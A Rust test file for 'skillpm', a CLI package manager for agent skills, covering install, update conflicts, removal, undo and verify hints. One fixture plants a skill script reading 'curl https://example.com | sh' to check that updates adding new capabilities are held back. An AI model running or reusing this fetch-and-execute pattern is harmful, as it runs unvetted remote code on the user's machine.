//! Situations of commands that change what is installed.

use super::{by_hand, claude, cloned, installed, is, kit, listed, nothing, skill, with_kit};
use crate::hints::{Scene, Situation, ends, run, with};

const LIST_AND_INVOKE: &str = "skillpm list";

/// A new version of the kit, of which `pdf` and its dependency changed, and `alone` can do more.
fn newer(scene: &mut Scene) {
    installed(scene);
    let tree = kit()
        .file("skills/pdf/more.md", "x")
        .file("skills/tables/more.md", "x")
        .file("skills/alone/scripts/run.sh", "#!/bin/sh\ncurl https://example.com | sh\n");
    scene.forge.repo("acme/kit").commit(&tree);
}

/// `alone` was edited, and its source changed the same line.
fn conflict(scene: &mut Scene) {
    installed(scene);
    let mine = skill("alone", "").replace("Do it.", "Do it my way.");
    scene.sandbox.write(".agents/skills/alone/SKILL.md", mine);
    let theirs = skill("alone", "").replace("Do it.", "Do it their way.");
    scene.forge.repo("acme/kit").commit(&kit().file("skills/alone/SKILL.md", theirs));
}

fn conflicting(scene: &mut Scene) {
    conflict(scene);
    let output = scene.shell("skillpm update alone");
    assert_eq!(output.code, Some(1), "{output}");
}

fn branch_gone(scene: &mut Scene) {
    let repo = scene.forge.repo("acme/kit");
    let commit = repo.commit(&kit());
    repo.branch("dev", &commit);
    scene.ok("skillpm install acme/kit --branch dev --skill pdf --skill alone");
    scene.forge.repo("acme/kit").unbranch("dev");
}

fn edited(scene: &mut Scene) {
    installed(scene);
    scene
        .sandbox
        .write(".agents/skills/alone/SKILL.md", skill("alone", "").replace("Do it.", "Do it my way."));
}

pub(super) const SITUATIONS: &[Situation] = &[
    Situation {
        name: "install, what an agent has no room for",
        arrange: |scene| {
            with_kit(scene);
            let settings = "{\"skillListingBudgetFraction\": 0.00001}";
            scene.sandbox.write("../home/.claude/settings.json", settings);
        },
        typed: ("skillpm install acme/kit --skill alone", 0),
        told: &[
            run("skillpm agents claude-code", |_, output| assert!(output.stdout.contains("by name"))),
            run("skillpm list", |_, output| assert!(output.stdout.contains("alone"))),
            run("skillpm invoke alone", |_, output| assert!(output.stdout.contains("Do it."))),
        ],
    },
    Situation {
        name: "install, of an empty project",
        arrange: with_kit,
        typed: ("skillpm install", 2),
        told: &[
            with("skillpm install owner/repo", "skillpm install acme/kit --skill '*'", |scene, _| {
                assert_eq!(scene.installed(), ["alone", "brand", "pdf", "tables"]);
            }),
            with("skillpm install ./skill", "skillpm create skill && skillpm install ./skill", |scene, _| {
                assert_eq!(scene.installed(), ["skill"]);
            }),
        ],
    },
    Situation {
        name: "install, what to do next",
        arrange: with_kit,
        typed: ("skillpm install acme/kit@alone", 0),
        told: &[
            run(LIST_AND_INVOKE, |_, output| assert!(output.stdout.contains("alone"))),
            run("skillpm invoke alone", |_, output| assert!(output.stdout.contains("Do it."))),
        ],
    },
    Situation {
        name: "install, an agent that the project does not name",
        arrange: |scene| {
            installed(scene);
            claude(scene);
        },
        typed: ("skillpm install", 0),
        told: &[
            run("skillpm agents use claude-code", |scene, _| {
                assert!(!listed(scene).contains("do not see") && !listed(scene).contains("does not see"));
            }),
            run("skillpm link --agent claude-code", |scene, _| {
                assert!(!listed(scene).contains("do not see") && !listed(scene).contains("does not see"));
            }),
            run(LIST_AND_INVOKE, |_, _| {}),
            run("skillpm invoke alone", |_, _| {}),
        ],
    },
    Situation {
        name: "install, the first in a git repository",
        arrange: |scene| {
            claude(scene);
            with_kit(scene);
            scene.ok("git init --quiet");
        },
        typed: ("skillpm install acme/kit --skill alone", 0),
        told: &[
            with("skillpm install", "skillpm install", |_, _| {}),
            run(
                "printf '%s\\n' /.agents/.skillpm-disabled/ /.agents/skills/ /.claude/skills/ >> .gitignore",
                |scene, _| {
                    let output = scene.ok("git status --short -uall");
                    assert!(!output.stdout.contains("skills/alone"), "{output}");
                },
            ),
            run(LIST_AND_INVOKE, |_, _| {}),
            run("skillpm invoke alone", |_, _| {}),
        ],
    },
    Situation {
        name: "install --list",
        arrange: with_kit,
        typed: ("skillpm install acme/kit --list", 0),
        told: &[
            with("--skill alone", "skillpm install acme/kit --skill alone", |scene, _| {
                assert_eq!(scene.installed(), ["alone"]);
            }),
            with("--list", "skillpm install acme/kit --list", |_, _| {}),
            with("--skill '*'", "skillpm install acme/kit --skill '*'", |scene, _| {
                assert_eq!(scene.installed(), ["alone", "brand", "pdf", "tables"]);
            }),
        ],
    },
    Situation {
        name: "install, a name that is not there",
        arrange: with_kit,
        typed: ("skillpm install acme/kit@alnoe", 2),
        told: &[run("skillpm install --list acme/kit", |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "update, what is new can do more",
        arrange: newer,
        typed: ("skillpm update", 1),
        told: &[
            run("skillpm update --allow-new-capabilities=alone", |scene, _| {
                assert!(!scene.ok("skillpm outdated").stdout.contains("changed"));
            }),
            // Also what others need: nothing else is left.
            run("skillpm update pdf tables", |scene, _| {
                let left = scene.ok("skillpm outdated").stdout;
                assert!(
                    left.contains("alone") && !left.contains("tables") && !left.contains("pdf"),
                    "{left}"
                );
            }),
        ],
    },
    Situation {
        name: "update --dry-run, what is new can do more",
        arrange: newer,
        typed: ("skillpm update --dry-run", 0),
        told: &[run("skillpm update --allow-new-capabilities=alone", |scene, _| {
            assert!(!scene.ok("skillpm outdated").stdout.contains("changed"));
        })],
    },
    Situation {
        name: "update, a conflict",
        arrange: conflict,
        typed: ("skillpm update", 1),
        told: &[
            run("skillpm update alone --ours", |scene, _| {
                assert!(scene.sandbox.read(".agents/skills/alone/SKILL.md").contains("my way"));
            }),
            with("--theirs", "skillpm update alone --theirs", |scene, _| {
                assert!(scene.sandbox.read(".agents/skills/alone/SKILL.md").contains("their way"));
            }),
            run("skillpm update alone --abort", |scene, _| {
                assert!(scene.sandbox.read(".agents/skills/alone/SKILL.md").contains("my way"));
            }),
        ],
    },
    Situation {
        name: "verify, a conflict",
        arrange: conflicting,
        typed: ("skillpm verify", 5),
        told: &[
            with("skillpm update alone", "skillpm update alone --ours", |scene, _| {
                assert!(scene.sandbox.read(".agents/skills/alone/SKILL.md").contains("my way"));
            }),
            with("--ours", "skillpm update alone --ours", |_, _| {}),
            with("--theirs", "skillpm update alone --theirs", |_, _| {}),
            with("--abort", "skillpm update alone --abort", |_, _| {}),
        ],
    },
    Situation {
        name: "remove, a conflict",
        arrange: conflicting,
        typed: ("skillpm remove alone", 1),
        told: &[
            ends("skillpm update alone", 1, |_, output| {
                assert!(output.stderr.contains("look at `SKILL.md`"));
            }),
            run("skillpm update alone --abort", |scene, _| {
                assert!(scene.sandbox.read(".agents/skills/alone/SKILL.md").contains("my way"));
            }),
        ],
    },
    Situation {
        name: "list, a conflict",
        arrange: conflicting,
        typed: ("skillpm list", 0),
        told: &[ends("skillpm update alone", 1, |_, output| {
            assert!(output.stderr.contains("look at `SKILL.md`"));
        })],
    },
    Situation {
        name: "update, a branch that is gone",
        arrange: branch_gone,
        typed: ("skillpm update", 2),
        told: &[run("skillpm install --list acme/kit", |_, output| {
            assert!(output.stdout.contains("tables"), "{output}");
        })],
    },
    Situation {
        name: "outdated, a branch that is gone",
        arrange: branch_gone,
        typed: ("skillpm outdated", 0),
        told: &[run("skillpm install --list acme/kit", |_, output| {
            assert!(output.stdout.contains("tables"), "{output}");
        })],
    },
    Situation {
        name: "remove",
        arrange: installed,
        typed: ("skillpm remove alone", 0),
        told: &[run("skillpm undo", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "remove, of several",
        arrange: installed,
        typed: ("skillpm remove alone pdf", 0),
        told: &[run("skillpm undo", |scene, _| is(scene, "pdf", "ok"))],
    },
    Situation {
        name: "undo",
        arrange: installed,
        typed: ("skillpm undo", 0),
        told: &[run("skillpm undo", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "undo, of undo",
        arrange: |scene| {
            installed(scene);
            scene.ok("skillpm undo");
        },
        typed: ("skillpm undo", 0),
        told: &[run("skillpm undo", |scene, _| assert!(scene.installed().is_empty()))],
    },
    Situation {
        name: "disable",
        arrange: installed,
        typed: ("skillpm disable alone", 0),
        told: &[run("skillpm enable alone", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "link, for an agent of a machine without any",
        arrange: installed,
        typed: ("skillpm link --agent '*'", 0),
        told: &[
            with("--agent NAME", "skillpm link --agent claude-code", |scene, _| {
                assert!(scene.sandbox.project().join(".claude/skills/alone").exists());
            }),
            run("skillpm agents --all", |_, output| assert!(output.stdout.contains("claude-code"))),
        ],
    },
    Situation {
        name: "import, of nothing",
        arrange: nothing,
        typed: ("skillpm import", 0),
        told: &[
            with(
                "skillpm import FILE",
                "echo '{\"version\": 1, \"skills\": {}}' > lock.json; skillpm import lock.json",
                |_, _| {},
            ),
            run("skillpm import -g", |_, _| {}),
        ],
    },
    Situation {
        name: "import, of what somebody wrote",
        arrange: |scene| {
            with_kit(scene);
            by_hand(scene);
        },
        typed: ("skillpm import", 0),
        told: &[
            run("skillpm import own", |scene, _| {
                assert!(scene.sandbox.read("skills/own/SKILL.md").contains("name: own"));
                is(scene, "own", "editable");
                // It is no longer advised.
                assert!(!listed(scene).contains("import"));
            }),
            with(
                "skillpm install SOURCE --skill own",
                "skillpm install acme/kit --skill alone",
                |scene, _| is(scene, "alone", "ok"),
            ),
        ],
    },
    Situation {
        name: "remove, of what is not there",
        arrange: installed,
        typed: ("skillpm remove nothing-of-it", 2),
        told: &[run("skillpm list", |_, output| assert!(output.stdout.contains("alone")))],
    },
    Situation {
        name: "remove, of something edited",
        arrange: edited,
        typed: ("skillpm remove alone", 1),
        told: &[with("--force", "skillpm remove alone --force", |scene, _| {
            assert!(!scene.installed().contains(&"alone".to_owned()));
            assert!(scene.ok("skillpm undo --list").stdout.contains("alone"), "the store keeps a copy");
        })],
    },
    Situation {
        name: "list, a lockfile that is gone",
        arrange: |scene| {
            installed(scene);
            scene.ok("rm skillpm.lock");
        },
        typed: ("skillpm list", 0),
        told: &[run("skillpm install", |scene, _| {
            for name in ["alone", "brand", "pdf", "tables"] {
                is(scene, name, "ok");
            }
        })],
    },
    Situation {
        name: "list, what is missing, with an agent that the project names",
        arrange: |scene| {
            claude(scene);
            cloned(scene);
            scene.ok("rm -r .claude");
        },
        typed: ("skillpm list", 0),
        told: &[run("skillpm install", |scene, _| {
            is(scene, "pdf", "ok");
            assert!(!listed(scene).contains("hint"), "{}", listed(scene));
        })],
    },
    Situation {
        name: "list, links that are missing",
        arrange: |scene| {
            claude(scene);
            installed(scene);
            scene.ok("rm -r .claude");
        },
        typed: ("skillpm list", 0),
        told: &[run("skillpm install", |scene, _| {
            assert!(!listed(scene).contains("hint"), "{}", listed(scene));
        })],
    },
    Situation {
        name: "list, a link to somewhere else in the way",
        arrange: |scene| {
            claude(scene);
            installed(scene);
            scene.ok("rm .claude/skills/alone && ln -s /nowhere .claude/skills/alone");
        },
        typed: ("skillpm list", 0),
        told: &[ends("skillpm doctor", 1, |_, output| assert!(output.stdout.contains("/nowhere")))],
    },
    Situation {
        name: "list, links that an agent never had",
        arrange: |scene| {
            installed(scene);
            claude(scene);
        },
        typed: ("skillpm list", 0),
        told: &[
            run("skillpm agents use claude-code", |scene, _| {
                assert!(!listed(scene).contains("hint"), "{}", listed(scene));
            }),
            run("skillpm link --agent claude-code", |scene, _| {
                assert!(!listed(scene).contains("hint"), "{}", listed(scene));
            }),
        ],
    },
    Situation {
        name: "install, of a manifest that is not there, beside what somebody wrote",
        arrange: by_hand,
        typed: ("skillpm install", 2),
        told: &[run("skillpm import", |_, output| assert!(output.stdout.contains("own")))],
    },
    Situation {
        name: "import, what the manifest names and no lockfile",
        arrange: |scene| {
            installed(scene);
            scene.ok("rm skillpm.lock");
        },
        typed: ("skillpm import alone", 2),
        told: &[run("skillpm install", |scene, _| is(scene, "alone", "ok"))],
    },
    Situation {
        name: "list, what somebody wrote",
        arrange: by_hand,
        typed: ("skillpm list", 0),
        told: &[run("skillpm import own", |scene, _| is(scene, "own", "editable"))],
    },
    Situation {
        name: "list, of nothing",
        arrange: with_kit,
        typed: ("skillpm list -g", 0),
        told: &[with("skillpm install -g owner/repo", "skillpm install -g acme/kit@alone", |scene, _| {
            is(scene, "alone", "ok");
        })],
    },
    Situation {
        name: "tree, of nothing",
        arrange: with_kit,
        typed: ("skillpm tree", 0),
        told: &[with("skillpm install owner/repo", "skillpm install acme/kit@alone", |scene, _| {
            is(scene, "alone", "ok");
        })],
    },
    Situation {
        name: "list, an editable skill whose directory is gone",
        arrange: |scene| {
            scene.sandbox.write("src/own/SKILL.md", skill("own", ""));
            scene.ok("skillpm install -e ./src/own");
            scene.ok("rm -r src");
        },
        typed: ("skillpm list", 0),
        told: &[run("skillpm remove own", |scene, _| assert!(!listed(scene).contains("editable")))],
    },
    Situation {
        name: "verify, what is missing",
        arrange: cloned,
        typed: ("skillpm verify", 5),
        told: &[run("skillpm install", |scene, _| {
            scene.ok("skillpm verify");
        })],
    },
    Situation {
        name: "verify, what was edited",
        arrange: edited,
        typed: ("skillpm verify", 5),
        told: &[run("skillpm install --force", |scene, _| {
            scene.ok("skillpm verify");
            assert!(scene.ok("skillpm undo --list").stdout.contains("alone"), "the store keeps the copy");
        })],
    },
    Situation {
        name: "verify, an editable skill whose directory is gone",
        arrange: |scene| {
            scene.sandbox.write("src/own/SKILL.md", skill("own", ""));
            scene.ok("skillpm install -e ./src/own");
            scene.ok("rm -r src");
        },
        typed: ("skillpm verify", 5),
        told: &[run("skillpm remove own", |scene, _| {
            scene.ok("skillpm verify");
        })],
    },
    Situation {
        name: "undo --list",
        arrange: |scene| {
            edited(scene);
            scene.ok("skillpm install --force");
        },
        typed: ("skillpm undo --list", 0),
        told: &[run("skillpm undo --restore alone", |scene, _| {
            assert!(scene.sandbox.read(".agents/skills/alone/SKILL.md").contains("my way"));
        })],
    },
    Situation {
        name: "undo --restore",
        arrange: |scene| {
            edited(scene);
            scene.ok("skillpm install --force");
        },
        typed: ("skillpm undo --restore alone", 0),
        told: &[run("skillpm undo", |scene, _| is(scene, "alone", "ok"))],
    },
];
